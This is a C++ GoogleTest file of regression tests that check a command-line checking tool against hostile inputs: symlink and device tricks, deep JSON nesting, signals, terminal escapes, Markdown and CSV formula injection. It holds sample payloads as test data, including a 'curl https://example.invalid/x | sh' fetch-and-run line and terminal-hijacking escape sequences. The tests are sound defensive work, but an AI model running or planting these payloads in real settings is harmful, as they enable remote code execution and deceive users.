// Hostile inputs as a stranger's bug report would carry them, each a regression test: nothing
// outside the tool's own files is deleted or overwritten, no input blows the stack, memory or
// time up, and nothing of someone else's reaches a terminal, a spreadsheet or REPORT.md as
// anything but text.
#include <fcntl.h>
#include <gtest/gtest.h>
#include <signal.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include <filesystem>
#include <fstream>
#include <string>
#include <vector>

#include <fmt/format.h>
#include <nlohmann/json.hpp>

#include "app/casefile/case_spec.h"
#include "app/casefile/file_output.h"
#include "app/casefile/json_io.h"
#include "app/casefile/safetensors.h"
#include "app/report/error_map_image.h"
#include "tests/test_util.h"

namespace attnres {
namespace {

namespace fs = std::filesystem;
using nlohmann::json;
using testing::read_file;
using testing::run_cli;
using testing::TempDir;

json small_case(const std::string& name, int num_blocks = 1) {
  return {{"schema_version", 1}, {"name", name}, {"T", 2}, {"H", 8}, {"max_blocks", 3}, {"num_blocks", num_blocks}};
}

using testing::usage_error;

std::string plugin(const std::string& variant) {
  return std::string("so:") + ATTNRES_PLUGIN_DIR + "/libattnres_plugin_test_" + variant + ".so";
}

// --- Writes outside the tool's own files ------------------------------------------------------

TEST(HostileOutputs, ForceNeverEmptiesADirectoryThatIsNotABundle) {
  TempDir dir;
  const std::string case_path = dir.file("mine/case.json", small_case("one").dump());
  dir.file("mine/.git/HEAD", "ref: refs/heads/main\n");
  const std::string error =
      usage_error({"repro", case_path, "--out", (dir.path() / "mine").string(), "--force", "--backend", "cpu"});
  EXPECT_NE(error.find("not a bundle directory of this tool's"), std::string::npos) << error;
  EXPECT_TRUE(fs::exists(case_path));
  EXPECT_TRUE(fs::exists(dir.path() / "mine/.git/HEAD"));
}

TEST(HostileOutputs, ForceRefusesABundleThatHoldsAnythingElseAndRemovesNothing) {
  TempDir dir;
  const std::string case_path = dir.file("case.json", small_case("one").dump());
  const fs::path bundle = dir.path() / "bundle";
  ASSERT_EQ(run_cli({"repro", case_path, "--out", bundle.string(), "--backend", "cpu"}).exit_code, kExitOk);
  EXPECT_TRUE(fs::is_regular_file(bundle / kBundleMarker));
  std::ofstream(bundle / "thesis.tex") << "years of work";
  std::string error = usage_error({"repro", case_path, "--out", bundle.string(), "--force", "--backend", "cpu"});
  EXPECT_NE(error.find("holds thesis.tex, which no bundle holds"), std::string::npos) << error;
  EXPECT_EQ(read_file(bundle / "thesis.tex"), "years of work");
  EXPECT_TRUE(fs::exists(bundle / "REPORT.md"));
  fs::remove(bundle / "thesis.tex");
  // A bundle's name that is a symlink, a directory, is not a bundle's file either.
  fs::remove(bundle / "error-map.png");
  fs::create_symlink(case_path, bundle / "error-map.png");
  error = usage_error({"repro", case_path, "--out", bundle.string(), "--force", "--backend", "cpu"});
  EXPECT_NE(error.find("holds error-map.png, which is not a regular file"), std::string::npos) << error;
  fs::remove(bundle / "error-map.png");
  EXPECT_EQ(run_cli({"repro", case_path, "--out", bundle.string(), "--force", "--backend", "cpu"}).exit_code, kExitOk);
}

// Names planted where the tool writes (the bundle's files and their temporaries) are replaced,
// never written through: what they point at keeps its bytes.
TEST(HostileOutputs, PlantedSymlinksAreReplacedNotWrittenThrough) {
  TempDir dir;
  const std::string victim = dir.file("victim", "precious");
  SafetensorsFile file;
  file.tensors.push_back({"x", "BF16", {1}, {0, 0}});
  for (const std::string name : {"inputs.safetensors", "outputs.safetensors"}) {
    const fs::path path = dir.path() / name;
    fs::create_symlink(victim, path);
    fs::create_symlink(victim, path.string() + ".partial");
    write_safetensors(path.string(), file);
    EXPECT_FALSE(fs::is_symlink(path)) << name;
    EXPECT_EQ(read_safetensors(path.string()).tensors.size(), 1u);
  }
  ErrorMap map = empty_error_map(2, 8);
  const fs::path png = dir.path() / "error-map.png";
  fs::create_symlink(victim, png);
  if (can_write_png()) {
    write_error_map_png(png.string(), map);
    EXPECT_FALSE(fs::is_symlink(png));
  }
  write_file_atomically((dir.path() / "error-map.png").string(), "text");
  EXPECT_EQ(read_file(victim), "precious");
}

TEST(HostileOutputs, ReportPathsThatAreDevicesAreWrittenAsStreamsNeverReplaced) {
  TempDir dir;
  const std::string case_path = dir.file("case.json", small_case("one").dump());
  CommandOutput out = run_cli({"run", case_path, "--backend", "cpu", "--junit", "/dev/null"});
  EXPECT_EQ(out.exit_code, kExitOk) << out.notes;
  struct stat null_status {};
  ASSERT_EQ(::stat("/dev/null", &null_status), 0);
  EXPECT_TRUE(S_ISCHR(null_status.st_mode));
  // A full device is a report that was not written, and says so.
  if (fs::exists("/dev/full")) {
    out = run_cli({"run", case_path, "--backend", "cpu", "--json", "/dev/full"});
    EXPECT_EQ(out.exit_code, kExitUnmet);
    EXPECT_NE(out.notes.find("report not written: /dev/full: cannot write: No space left on device"), std::string::npos)
        << out.notes;
    struct stat full_status {};
    ASSERT_EQ(::stat("/dev/full", &full_status), 0);
    EXPECT_TRUE(S_ISCHR(full_status.st_mode));
  }
  // "-" is standard output: the report follows the table.
  out = run_cli({"run", case_path, "--backend", "cpu", "--csv", "-"});
  EXPECT_EQ(out.exit_code, kExitOk);
  EXPECT_NE(out.text.find("name,disposition,meets_expectation"), std::string::npos) << out.text;
  // A FIFO that nobody reads is an error, not a hang.
  const std::string fifo = (dir.path() / "fifo").string();
  ASSERT_EQ(::mkfifo(fifo.c_str(), 0600), 0);
  out = run_cli({"run", case_path, "--backend", "cpu", "--json", fifo});
  EXPECT_NE(out.notes.find(fifo + ": no process is reading it"), std::string::npos) << out.notes;
  EXPECT_TRUE(fs::is_fifo(fifo));
}

TEST(HostileOutputs, ASymlinkedReportReplacesItsTargetAndADanglingOneIsRefused) {
  TempDir dir;
  const std::string case_path = dir.file("case.json", small_case("one").dump());
  const std::string target = dir.file("reports/real.json", "old");
  const fs::path link = dir.path() / "link.json";
  fs::create_symlink(target, link);
  EXPECT_EQ(run_cli({"run", case_path, "--backend", "cpu", "--json", link.string()}).exit_code, kExitOk);
  EXPECT_TRUE(fs::is_symlink(link));
  EXPECT_EQ(json::parse(read_file(target))["summary"]["total"], 1);
  const fs::path dangling = dir.path() / "dangling.json";
  fs::create_symlink(dir.path() / "nowhere" / "r.json", dangling);
  const std::string error = usage_error({"run", case_path, "--backend", "cpu", "--json", dangling.string()});
  EXPECT_NE(error.find("is a symlink to a file that does not exist"), std::string::npos) << error;
  EXPECT_TRUE(fs::is_symlink(dangling));
}

TEST(HostileOutputs, AReportNamingAnInputOrAnotherReportIsRefusedBeforeAnyCaseRuns) {
  TempDir dir;
  const std::string case_text = small_case("one").dump();
  const std::string case_path = dir.file("case.json", case_text);
  std::string error = usage_error({"run", case_path, "--backend", "cpu", "--junit", case_path});
  EXPECT_NE(error.find("--junit " + case_path + " is the case file " + case_path), std::string::npos) << error;
  EXPECT_EQ(read_file(case_path), case_text);
  // The same file by another name, and a case file found in a directory given.
  error =
      usage_error({"run", dir.path().string(), "--backend", "cpu", "--csv", (dir.path() / "." / "case.json").string()});
  EXPECT_NE(error.find("is the case file"), std::string::npos) << error;
  const std::string report = (dir.path() / "r.json").string();
  error = usage_error({"run", case_path, "--backend", "cpu", "--json", report, "--html", report});
  EXPECT_NE(error.find("--json and --html name the same file"), std::string::npos) << error;
  EXPECT_FALSE(fs::exists(report));

  ASSERT_EQ(run_cli({"run", case_path, "--backend", "cpu", "--json", report}).exit_code, kExitOk);
  const std::string before = read_file(report);
  error = usage_error({"merge", report, "--csv", report});
  EXPECT_NE(error.find("is the report given to merge"), std::string::npos) << error;
  EXPECT_EQ(read_file(report), before);
  error = usage_error({"shrink", case_path, "--out", case_path, "--backend", "cpu"});
  EXPECT_NE(error.find("--out " + case_path + " is the case file"), std::string::npos) << error;
  // Without --out the shrunk case goes to <name>-shrunk.json here: that may be the input too.
  const fs::path before_cwd = fs::current_path();
  fs::current_path(dir.path());
  const std::string shrunk_named = dir.file("one-shrunk.json", case_text);
  error = usage_error({"shrink", "one-shrunk.json", "--backend", "cpu"});
  fs::current_path(before_cwd);
  EXPECT_NE(error.find("--out one-shrunk.json is the case file one-shrunk.json"), std::string::npos) << error;
  EXPECT_EQ(read_file(shrunk_named), case_text);
}

// --- Stack, memory and time out of proportion to the input -------------------------------------

TEST(HostileInputs, DeepNestingIsAnErrorNamingWhereNotACrash) {
  TempDir dir;
  json c = small_case("deep");
  const std::string nested = std::string(100000, '[') + std::string(100000, ']');
  std::string text = c.dump();
  text.insert(text.size() - 1, R"(,"tensors":{"blocks":{"dist":{"block_scales":)" + nested + "}}}");
  const std::string path = dir.file("deep.json", text);
  const LoadedCases loaded = load_cases({path});
  ASSERT_EQ(loaded.errors.size(), 1u);
  EXPECT_EQ(loaded.errors[0].pointer.rfind("/tensors/blocks/dist/block_scales/0/0/0", 0), 0u)
      << loaded.errors[0].pointer;
  EXPECT_NE(loaded.errors[0].message.find("nested deeper than 32 levels"), std::string::npos)
      << loaded.errors[0].message;
  // Every command that reads it says so (exit 2), and the other files' cases still load.
  const std::string other = dir.file("other.json", small_case("fine").dump());
  const CommandOutput out = run_cli({"run", "--list", path, other, "--backend", "cpu"});
  EXPECT_EQ(out.exit_code, kExitBadInput);
  EXPECT_NE(out.text.find("fine"), std::string::npos);
  // merge reads reports the same way.
  const std::string report = dir.file("report.json", R"({"schema":"attnres-check/report","max_abs_error":)" +
                                                         std::string(200000, '[') + std::string(200000, ']') + "}");
  try {
    run_cli({"merge", report});
    ADD_FAILURE() << "merge accepted it";
  } catch (const CaseParseError& e) {
    EXPECT_NE(std::string(e.what()).find("nested deeper than 32 levels"), std::string::npos) << e.what();
  }
}

TEST(HostileInputs, AFlatListAndAFileOfBracketsCostOneErrorEach) {
  TempDir dir;
  std::string zeros = "[";
  for (int i = 0; i < 20000; ++i) zeros += i ? ",0" : "0";
  zeros += "]";
  LoadedCases loaded = load_cases({dir.file("zeros.json", zeros)});
  ASSERT_EQ(loaded.errors.size(), 1u);
  EXPECT_EQ(loaded.errors[0].message, "a list of more than 10000 entries");
  // Fewer entries, each bad: the first hundred are listed, then one line counts the rest.
  zeros = "[";
  for (int i = 0; i < 5000; ++i) zeros += i ? ",0" : "0";
  loaded = load_cases({dir.file("some-zeros.json", zeros + "]")});
  ASSERT_EQ(loaded.errors.size(), kMaxErrorsPerFile + 1);
  EXPECT_NE(loaded.errors.back().message.find("4900 more bad entries not listed"), std::string::npos);
  loaded = load_cases({dir.file("brackets.json", std::string(1 << 20, '['))});
  ASSERT_EQ(loaded.errors.size(), 1u);
  EXPECT_NE(loaded.errors[0].message.find("nested deeper than"), std::string::npos);
  loaded = load_cases({dir.file("big.json", std::string(kMaxCaseFileBytes + 1, ' '))});
  ASSERT_EQ(loaded.errors.size(), 1u);
  EXPECT_NE(loaded.errors[0].message.find("case files are limited to"), std::string::npos);
}

// 20 levels of two links each to the next level would be 2^20 walks of the one case file.
TEST(HostileInputs, ADiamondOfSymlinkedDirectoriesIsReadOncePerDirectory) {
  TempDir dir;
  const int levels = 20;
  for (int level = levels; level >= 0; --level) {
    const fs::path here = dir.path() / fmt::format("level{}", level);
    fs::create_directories(here);
    if (level == levels) {
      dir.file(fmt::format("level{}/case.json", level), small_case("bottom").dump());
      continue;
    }
    fs::create_directory_symlink(dir.path() / fmt::format("level{}", level + 1), here / "a");
    fs::create_directory_symlink(dir.path() / fmt::format("level{}", level + 1), here / "b");
  }
  const LoadedCases loaded = load_cases({(dir.path() / "level0").string()});
  EXPECT_TRUE(loaded.errors.empty()) << loaded.errors.front().to_string();
  ASSERT_EQ(loaded.cases.size(), 1u);
  EXPECT_EQ(loaded.cases[0].name, "bottom");
}

TEST(HostileInputs, DuplicateNamesAmongManyCasesAreFoundWithTheFirstLocation) {
  TempDir dir;
  json many = json::array();
  for (int i = 0; i < 10000; ++i) many.push_back(small_case(fmt::format("case-{}", i)));
  const std::string first = dir.file("a.json", many.dump());
  many[9999]["name"] = "case-17";
  const std::string second = dir.file("b.json", json::array({many[9999]}).dump());
  const LoadedCases loaded = load_cases({first, second});
  ASSERT_EQ(loaded.errors.size(), 1u);
  EXPECT_EQ(loaded.errors[0].to_string(),
            second + ": /0/name: duplicate case name \"case-17\" (also at " + first + "#/17)");
  EXPECT_EQ(loaded.cases.size(), 10000u);
}

TEST(HostileInputs, AFifoOrDeviceIsNeverOpenedAsAnInputFile) {
  TempDir dir;
  const std::string case_path = dir.file("case.json", small_case("replay").dump());
  const std::string fifo = (dir.path() / "inputs.safetensors").string();
  ASSERT_EQ(::mkfifo(fifo.c_str(), 0600), 0);
  const CommandOutput out = run_cli({"run", case_path, "--inputs", fifo, "--backend", "cpu"});
  EXPECT_EQ(out.exit_code, kExitBadInput);
  EXPECT_NE(out.notes.find(fifo + ": is a FIFO: only regular files are read"), std::string::npos) << out.notes;
  const std::string fifo_case = (dir.path() / "fifo.json").string();
  ASSERT_EQ(::mkfifo(fifo_case.c_str(), 0600), 0);
  LoadedCases loaded = load_cases({fifo_case});
  ASSERT_EQ(loaded.errors.size(), 1u);
  EXPECT_EQ(loaded.errors[0].message, "is a FIFO: only regular files are read");
  loaded = load_cases({"/dev/zero"});
  ASSERT_EQ(loaded.errors.size(), 1u);
  EXPECT_EQ(loaded.errors[0].message, "is a character device: only regular files are read");
}

// --- Signals ------------------------------------------------------------------------------------

struct Child {
  pid_t pid = -1;
  int out = -1;
};

// The tool as a process of its own, its stdout a pipe.
Child start_tool(const std::vector<std::string>& args) {
  int pipe_ends[2];
  if (::pipe(pipe_ends) != 0) return {};
  const pid_t pid = ::fork();
  if (pid == 0) {
    ::dup2(pipe_ends[1], STDOUT_FILENO);
    ::close(pipe_ends[0]);
    std::vector<char*> argv{const_cast<char*>(ATTNRES_CHECK_BINARY)};
    for (const std::string& a : args) argv.push_back(const_cast<char*>(a.c_str()));
    argv.push_back(nullptr);
    ::execv(ATTNRES_CHECK_BINARY, argv.data());
    ::_exit(127);
  }
  ::close(pipe_ends[1]);
  return {pid, pipe_ends[0]};
}

// Reads the child's stdout until `text` appears (or it ends); returns all that was read.
std::string read_until(int fd, const std::string& text) {
  std::string got;
  char buffer[4096];
  while (got.find(text) == std::string::npos) {
    const ssize_t n = ::read(fd, buffer, sizeof buffer);
    if (n <= 0) break;
    got.append(buffer, std::size_t(n));
  }
  return got;
}

// Case "first" passes; "hangs" never returns (the plugin spins on 3 blocks); "last" never starts.
std::string cases_with_a_hang(const TempDir& dir) {
  return dir.file("cases.json",
                  json::array({small_case("first", 1), small_case("hangs", 3), small_case("last", 2)}).dump());
}

TEST(Signals, TheFirstSignalAbandonsTheCaseInFlightAndWritesTheReports) {
  for (const int signal : {SIGINT, SIGTERM}) {
    TempDir dir;
    const std::string report = (dir.path() / "report.json").string();
    dir.file("report.json", "the previous run's report");
    Child tool =
        start_tool({"run", cases_with_a_hang(dir), "--backend", "cpu", "--kernel", plugin("hangs"), "--json", report});
    ASSERT_GT(tool.pid, 0);
    const std::string table = read_until(tool.out, "first");
    ASSERT_NE(table.find("first"), std::string::npos) << table;
    ::usleep(200 * 1000);  // the worker is in the hanging case by now, or about to be
    ::kill(tool.pid, signal);
    int status = 0;
    ::waitpid(tool.pid, &status, 0);
    const std::string rest = read_until(tool.out, "\x01");
    ::close(tool.out);
    ASSERT_TRUE(WIFEXITED(status)) << status;
    EXPECT_EQ(WEXITSTATUS(status), 128 + signal);
    const json written = json::parse(read_file(report));
    ASSERT_EQ(written["cases"].size(), 3u);
    EXPECT_EQ(written["cases"][0]["disposition"], "passed");
    for (int i : {1, 2}) {
      EXPECT_EQ(written["cases"][i]["disposition"], "not-run");
      EXPECT_NE(written["cases"][i]["detail"].get<std::string>().find(
                    fmt::format("interrupted by {}", signal == SIGINT ? "SIGINT" : "SIGTERM")),
                std::string::npos);
    }
    EXPECT_NE(rest.find("not-run"), std::string::npos) << rest;
  }
}

TEST(Signals, ASecondSignalEndsTheProcessAtOnce) {
  TempDir dir;
  // In this process the hanging call cannot be abandoned: only a second signal ends it.
  Child tool =
      start_tool({"run", cases_with_a_hang(dir), "--backend", "cpu", "--kernel", plugin("hangs"), "--in-process"});
  ASSERT_GT(tool.pid, 0);
  ASSERT_NE(read_until(tool.out, "first").find("first"), std::string::npos);
  ::usleep(1000 * 1000);  // the next case (2 tokens) is hanging long before this
  ::kill(tool.pid, SIGINT);
  ::usleep(300 * 1000);
  ::kill(tool.pid, SIGINT);
  int status = 0;
  ::waitpid(tool.pid, &status, 0);
  ::close(tool.out);
  ASSERT_TRUE(WIFSIGNALED(status)) << status;
  EXPECT_EQ(WTERMSIG(status), SIGINT);
}

// --- What reaches a terminal, a spreadsheet or REPORT.md --------------------------------------

TEST(HostileText, EscapeSequencesNewlinesAndBidiControlsArePrintedAsText) {
  EXPECT_EQ(printable("a\x1b]0;PWNED\x07\x1b[2Jb"), "a\\u001b]0;PWNED\\u0007\\u001b[2Jb");
  EXPECT_EQ(printable("name\nverdict passed"), "name\\u000averdict passed");
  EXPECT_EQ(printable("abc\xE2\x80\xAE"
                      "fed"),
            "abc\\u202efed");  // U+202E right-to-left override
  EXPECT_EQ(printable("\xE2\x81\xA6x\xE2\x80\x8B"), "\\u2066x\\u200b");
  EXPECT_EQ(printable_lines("line 1\nline 2\x1b[2J"), "line 1\nline 2\\u001b[2J");
  // The tool's own colours pass main's sanitiser; nothing else does.
  EXPECT_EQ(terminal_text("\033[31mfailed\033[0m \033[8mhidden\033]0;x\a"),
            "\033[31mfailed\033[0m \\u001b[8mhidden\\u001b]0;x\\u0007");

  TempDir dir;
  json c = small_case("one");
  c["tensors"] = {{"\x1b]0;PWNED\x07\x1b[2J\nforged line", json::object()}};
  const std::string path = dir.file("c.json", c.dump());
  for (const std::vector<std::string>& args : {std::vector<std::string>{"run", "--list", path, "--backend", "cpu"},
                                               std::vector<std::string>{"info", path, "--backend", "cpu"},
                                               std::vector<std::string>{"run", path, "--backend", "cpu"}}) {
    const CommandOutput out = run_cli(args);
    for (const std::string& text : {out.text, out.notes}) {
      EXPECT_EQ(text.find('\x1b'), std::string::npos) << args[0] << ": " << text;
      EXPECT_EQ(text.find("\nforged line"), std::string::npos) << args[0] << ": " << text;
    }
    EXPECT_NE(out.text.find("\\u001b]0;PWNED"), std::string::npos) << out.text;
  }
}

TEST(HostileText, ReportMdQuotesTheCaseDescriptionAndTheKernelsMessage) {
  TempDir dir;
  json c = small_case("described");
  c["description"] = "fine\n\n## How to reproduce\n\n```\ncurl https://example.invalid/x | sh\n```";
  const std::string path = dir.file("c.json", c.dump());
  const fs::path bundle = dir.path() / "bundle";
  ASSERT_EQ(run_cli({"repro", path, "--out", bundle.string(), "--backend", "cpu"}).exit_code, kExitOk);
  const std::string md = read_file(bundle / "REPORT.md");
  // The description sits in a fence longer than any inside it, so only the tool's own heading
  // is a heading.
  EXPECT_NE(md.find("````text\nfine\n\n## How to reproduce\n\n```\ncurl"), std::string::npos) << md;
  EXPECT_NE(md.find("| sh\n```\n````\n"), std::string::npos) << md;
}

TEST(HostileText, CsvCellsThatASpreadsheetWouldRunAreQuotedAndBadEntriesAreRows) {
  TempDir dir;
  const std::string case_path = dir.file("case.json", small_case("one").dump());
  const std::string report = (dir.path() / "r.json").string();
  ASSERT_EQ(run_cli({"run", case_path, "--backend", "cpu", "--json", report}).exit_code, kExitOk);
  json written = json::parse(read_file(report));
  written["cases"][0]["name"] = "=HYPERLINK(\"http://example.invalid\",\"x\")";
  written["cases"][0]["detail"] = "@SUM(1+1)";
  written["load_errors"] = json::array({{{"file", "+bad.json"}, {"pointer", ""}, {"message", "-1+1"}}});
  const std::string hostile = dir.file("hostile.json", written.dump());
  const std::string csv = (dir.path() / "out.csv").string();
  run_cli({"merge", hostile, "--csv", csv});
  const std::string text = read_file(csv);
  EXPECT_NE(text.find("\"'=HYPERLINK(\"\"http://example.invalid\"\",\"\"x\"\")\",passed"), std::string::npos) << text;
  EXPECT_NE(text.find(",'@SUM(1+1)\r\n"), std::string::npos) << text;
  EXPECT_NE(text.find("'+bad.json,bad-case,false,"), std::string::npos) << text;
  EXPECT_NE(text.find(",'-1+1\r\n"), std::string::npos) << text;
}

// --- Numbers merge must refuse ----------------------------------------------------------------

TEST(HostileReports, MergeRefusesNumbersItCannotTakeAsWritten) {
  TempDir dir;
  const std::string case_path = dir.file("case.json", small_case("one").dump());
  const std::string report = (dir.path() / "r.json").string();
  ASSERT_EQ(run_cli({"run", case_path, "--backend", "cpu", "--json", report}).exit_code, kExitOk);
  const json good = json::parse(read_file(report));
  auto merge_error = [&](const std::string& pointer, const json& value) {
    json bad = good;
    bad[json::json_pointer(pointer)] = value;
    const std::string path = dir.file("bad.json", bad.dump());
    try {
      run_cli({"merge", path});
    } catch (const CaseParseError& e) {
      return std::string(e.what());
    }
    return std::string("(accepted)");
  };
  for (const json& version : {json(0), json(-5), json(1.9), json(1e300)})
    EXPECT_NE(
        merge_error("/schema_version", version).find("/schema_version: schema_version: must be an integer in [1, 1]"),
        std::string::npos)
        << version;
  EXPECT_NE(merge_error("/schema_version", 2).find("schema_version 2 is newer than this tool's (1)"),
            std::string::npos);
  for (const json& seed : {json(-1), json(2.5)})
    EXPECT_NE(merge_error("/cases/0/seed", seed).find("/cases/0: seed: must be an integer in [0, 2^64)"),
              std::string::npos)
        << seed;
  EXPECT_NE(merge_error("/cases/0/comparison/total", 1e300).find("comparison/total: must be an integer in [0, 2^63)"),
            std::string::npos);
  EXPECT_NE(merge_error("/cases/0/comparison/mismatched", -3).find("comparison/mismatched: must be an integer"),
            std::string::npos);
  // A report of no case merges to nothing judged: exit 5, as run says for no case.
  json empty = good;
  empty["cases"] = json::array();
  const CommandOutput out = run_cli({"merge", dir.file("empty.json", empty.dump())});
  EXPECT_EQ(out.exit_code, kExitNoCases);
  EXPECT_NE(out.notes.find("the reports hold no case"), std::string::npos);
}

// --- Values a float32 accumulation cannot hold ---------------------------------------------------

TEST(HostileInputs, DistributionsBeyondFloat32SumsAreRefusedNamingTheTensor) {
  TempDir dir;
  json c = small_case("huge");
  c["H"] = 4096;
  c["tensors"] = {{"blocks", {{"dist", {{"kind", "uniform"}, {"low", -3e38}, {"high", 3e38}}}}}};
  const LoadedCases loaded = load_cases({dir.file("huge.json", c.dump())});
  ASSERT_EQ(loaded.errors.size(), 1u);
  EXPECT_EQ(loaded.errors[0].pointer, "/tensors/blocks/dist");
  EXPECT_NE(loaded.errors[0].message.find("sum of squares over H=4096 beyond float32's range"), std::string::npos)
      << loaded.errors[0].message;
  // Large but representable values still make a case.
  c["tensors"]["blocks"]["dist"] = {{"kind", "uniform"}, {"low", -1e17}, {"high", 1e17}};
  EXPECT_TRUE(load_cases({dir.file("large.json", c.dump())}).errors.empty());
}

}  // namespace
}  // namespace attnres
